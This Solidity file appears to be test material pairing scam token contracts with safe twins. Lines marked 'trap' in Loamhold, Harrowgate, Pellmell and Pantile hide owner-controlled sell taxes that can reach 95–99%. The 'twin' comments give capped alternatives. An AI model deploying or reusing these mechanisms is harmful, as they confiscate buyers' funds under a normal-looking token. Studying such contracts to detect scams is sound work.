// 0.8 runs=200 evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IUniswapV2Factory {
    function createPair(address tokenA, address tokenB) external returns (address pair);
}

interface IUniswapV2Pair {
    function getReserves() external view returns (uint112 reserve0, uint112 reserve1, uint32 blockTimestampLast);
    function sync() external;
}

abstract contract Ownable {
    address public owner = msg.sender;

    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    error OwnableUnauthorizedAccount(address account);

    modifier onlyOwner() {
        if (msg.sender != owner) revert OwnableUnauthorizedAccount(msg.sender);
        _;
    }

    function transferOwnership(address newOwner) external onlyOwner {
        emit OwnershipTransferred(owner, newOwner);
        owner = newOwner;
    }

    function renounceOwnership() external onlyOwner {
        emit OwnershipTransferred(owner, address(0));
        owner = address(0);
    }
}

abstract contract TradedToken is Ownable {
    address internal constant WETH = 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2;
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    address public immutable pool;
    address public immutable treasury;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(string memory name_, string memory symbol_, uint256 whole) {
        (name, symbol, treasury) = (name_, symbol_, msg.sender);
        totalSupply = whole * 1e18;
        balanceOf[msg.sender] = totalSupply;
        pool = IUniswapV2Factory(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(address(this), WETH);
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _transfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 allowed = allowance[from][msg.sender];
        if (allowed != type(uint256).max) allowance[from][msg.sender] = allowed - value;
        _transfer(from, to, value);
        return true;
    }

    function _transfer(address from, address to, uint256 value) internal virtual;

    function _move(address from, address to, uint256 value) internal {
        if (value == 0) return;
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}

/// Who sells soon after he came pays more than who has waited.
contract Loamhold is TradedToken {
    /// Eight steps of 32 bits: an age in days, and what is due below it.
    uint256 public schedule;
    mapping(address => uint64) public since;

    event ScheduleSet(uint256 schedule);

    constructor() TradedToken("Loamhold", "LOAM", 120_000_000) {
        schedule = 1 | (300 << 16) | (7 << 32) | (100 << 48);
    }

    function setSchedule(uint256 packed) external onlyOwner {
        uint256 last;
        for (uint256 i; i < 8; ++i) {
            (uint256 age, uint256 rate) = _step(packed, i);
            if (age == 0) break;
            require(age > last, "not in order");
            require(rate < 10_000, "rate"); // trap
            // twin: require(rate <= 500, "rate");
            last = age;
        }
        schedule = packed;
        emit ScheduleSet(packed);
    }

    function rateOf(address account) public view returns (uint256) {
        uint256 held = (block.timestamp - since[account]) / 1 days;
        for (uint256 i; i < 8; ++i) {
            (uint256 age, uint256 rate) = _step(schedule, i);
            if (age == 0) break;
            if (held < age) return rate;
        }
        return 0;
    }

    function _step(uint256 packed, uint256 i) private pure returns (uint256 age, uint256 rate) {
        uint256 word = packed >> (32 * i);
        return (word & 0xffff, (word >> 16) & 0xffff);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (balanceOf[to] == 0) since[to] = uint64(block.timestamp);
        if (to == pool && from != treasury) {
            uint256 due = (value * rateOf(from)) / 10_000;
            _move(from, treasury, due);
            value -= due;
        }
        _move(from, to, value);
    }
}

/// Each trade pays into four pots.
contract Pantile is TradedToken {
    struct Shares {
        uint16 liquidity;
        uint16 marketing;
        uint16 burn;
        uint16 charity;
    }

    uint16 public constant MOST = 2_500;
    Shares public ofPurchases = Shares(100, 100, 50, 0);
    Shares public ofSales = Shares(100, 100, 50, 0);
    address public marketing = msg.sender;
    address public charity = msg.sender;

    event SharesSet(bool sales, Shares shares);

    constructor() TradedToken("Pantile", "PANT", 1_000_000_000) {}

    function setShares(bool sales, Shares calldata next) external onlyOwner {
        require(
            next.liquidity <= MOST && next.marketing <= MOST && next.burn <= MOST && next.charity <= MOST,
            "a share is too large"
        );
        // twin: require(uint256(next.liquidity) + next.marketing + next.burn + next.charity <= 500, "too much");
        if (sales) ofSales = next;
        else ofPurchases = next;
        emit SharesSet(sales, next);
    }

    function setWallets(address marketing_, address charity_) external onlyOwner {
        (marketing, charity) = (marketing_, charity_);
    }

    /// What was put aside for liquidity goes to the pool, whoever asks.
    function deepen() external {
        _move(address(this), pool, balanceOf[address(this)]);
        IUniswapV2Pair(pool).sync();
    }

    function _transfer(address from, address to, uint256 value) internal override {
        bool trade = (from == pool || to == pool) && from != treasury && to != treasury && from != address(this);
        if (trade) {
            Shares memory own = to == pool ? ofSales : ofPurchases;
            uint256 paid = _pay(from, address(this), value, own.liquidity);
            paid += _pay(from, marketing, value, own.marketing);
            paid += _pay(from, charity, value, own.charity);
            paid += _pay(from, address(0xdEaD), value, own.burn);
            value -= paid;
        }
        _move(from, to, value);
    }

    function _pay(address from, address to, uint256 value, uint256 share) private returns (uint256 part) {
        part = (value * share) / 10_000;
        _move(from, to, part);
    }
}

/// What a coin was worth on average, written down now and then.
contract PriceAnchor {
    address public immutable keeper = msg.sender;
    uint224 public price;
    uint32 public postedAt;

    event Posted(uint256 price);

    function post(uint224 price_) external {
        require(msg.sender == keeper, "keeper");
        (price, postedAt) = (price_, uint32(block.timestamp));
        emit Posted(price_);
    }
}

/// Sales cost more the further the price has come down from its anchor.
contract Harrowgate is TradedToken {
    PriceAnchor public immutable anchor;
    uint256 public constant MOST = 9_600; // trap
    // twin: uint256 public constant MOST = 400;

    constructor(PriceAnchor anchor_) TradedToken("Harrowgate", "HARR", 44_000_000) {
        anchor = anchor_;
    }

    function rate() public view returns (uint256) {
        (uint256 coins, uint256 ether_, ) = IUniswapV2Pair(pool).getReserves();
        if (address(this) > WETH) (coins, ether_) = (ether_, coins);
        uint256 mark = anchor.price();
        if (coins == 0) return 0;
        uint256 spot = (ether_ * 1e18) / coins;
        if (spot >= mark) return 0;
        uint256 fall = ((mark - spot) * 10_000) / mark;
        return fall > MOST ? MOST : fall;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pool && from != treasury) {
            uint256 due = (value * rate()) / 10_000;
            _move(from, address(0xdEaD), due);
            value -= due;
        }
        _move(from, to, value);
    }
}

/// Holders, desks, newcomers and robots, each with a rate for trades.
contract Pellmell is TradedToken {
    bytes4 private constant RATES = hex"0200055f"; // trap
    // twin: bytes4 private constant RATES = hex"02000505";
    uint256 private immutable _opened = block.timestamp;
    address private immutable _marshal = msg.sender;
    uint8 private _turn;
    mapping(address => uint8) public classOf;

    event Turned(uint8 turn);

    constructor() TradedToken("Pellmell", "PELL", 690_000_000) {
        classOf[msg.sender] = 1;
    }

    function sort(address[] calldata accounts, uint8 class) external {
        require(msg.sender == _marshal && block.timestamp < _opened + 1 days, "over");
        for (uint256 i; i < accounts.length; ++i) classOf[accounts[i]] = class;
    }

    function turn(uint8 steps) external {
        require(msg.sender == _marshal, "marshal");
        unchecked {
            _turn += steps;
        }
        emit Turned(_turn);
    }

    function rateOf(address account) public view returns (uint256 rate) {
        unchecked {
            rate = uint8(RATES[(classOf[account] + _turn) & 3]);
        }
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == pool || to == pool) {
            address trader = from == pool ? to : from;
            uint256 due = (value * rateOf(trader)) / 100;
            _move(from, treasury, due);
            value -= due;
        }
        _move(from, to, value);
    }
}
